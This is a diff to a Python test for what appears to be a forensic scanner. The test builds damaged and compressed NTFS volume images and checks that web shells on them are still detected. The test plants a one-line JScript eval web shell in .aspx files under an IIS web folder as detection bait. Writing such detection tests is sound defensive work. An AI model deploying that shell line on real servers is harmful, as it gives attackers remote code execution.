@@ -301,8 +301,9 @@ def damaged_tables(tmp, vol, want):
 
 def damaged_ntfs(tmp):
     """A folder loop in the MFT and a file whose data run points past the
-    end of the volume (tests/ntfs_patch.py): each said so, the rest of the
-    volume still read, the scan ends."""
+    end of the volume (tests/ntfs_patch.py), and a WOF-compressed file:
+    each said so, the rest of the volume still read (an NTFS-compressed
+    shell too), the scan ends."""
     web = 'inetpub/wwwroot/aspnet_client'
     shell = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\n'
 
@@ -325,9 +326,22 @@ def damaged_ntfs(tmp):
         os.setxattr(wof, 'user.WofCompressedData', bytes(64))
         os.setxattr(wof, 'system.ntfs_reparse_data',
                     struct.pack('<IHH', 0x80000017, 16, 0) + struct.pack('<IIII', 1, 2, 1, 1))
+        # NTFS's own compression (LZNT1), which TSK undoes: ntfs-3g
+        # compresses new files in a folder marked compressed (0x800).
+        packed = os.path.join(mnt, web, 'packed')
+        os.mkdir(packed)
+        attrib = struct.unpack('<I', os.getxattr(packed, 'system.ntfs_attrib'))[0]
+        os.setxattr(packed, 'system.ntfs_attrib', struct.pack('<I', attrib | 0x800))
+        with open(os.path.join(packed, 'big.aspx'), 'wb') as f:
+            f.write(b'<!-- ' + b'padding text ' * 20000 + b'-->\n' + shell)
+        attrib = struct.unpack('<I', os.getxattr(os.path.join(packed, 'big.aspx'),
+                                                 'system.ntfs_attrib'))[0]
+        compressed.append(bool(attrib & 0x800))
 
+    compressed = []
     vol = os.path.join(tmp, 'damaged.raw')
     make_volume(vol, 16, fill)
+    check(compressed == [True], 'ntfs-3g wrote big.aspx compressed (LZNT1)')
     ntfs_patch.patch_index_loop(vol, 'inner', 'back', 'loop')
     ntfs_patch.patch_run_past_end(vol, 'HttpProxy_2021030205-1.LOG')
     proc, objs = scan(vol)
@@ -339,8 +353,9 @@ def damaged_ntfs(tmp):
           'folder loop: said so, for the looping name (%s)' % errs)
     shells = sorted(o['source']['path'].rsplit('/', 1)[1] for o in objs
                     if o['kind'] == 'finding' and o['rule'] == 'webshell_chopper_jscript_eval')
-    check(shells == ['deep.aspx', 'top.aspx'],
-          'folder loop: the files beside and inside it are still scanned, once (%s)' % shells)
+    check(shells == ['big.aspx', 'deep.aspx', 'top.aspx'],
+          'folder loop: the files beside and inside it are still scanned, once; the '
+          'NTFS-compressed shell is found (%s)' % shells)
     check(any(p.endswith('HttpProxy_2021030205-1.LOG') for p, _ in errs),
           'a data run past the end: an error for that file (%s)' % errs)
     cov = [c for s in summ for c in s['coverage'] if c['family'] == 'httpproxy']
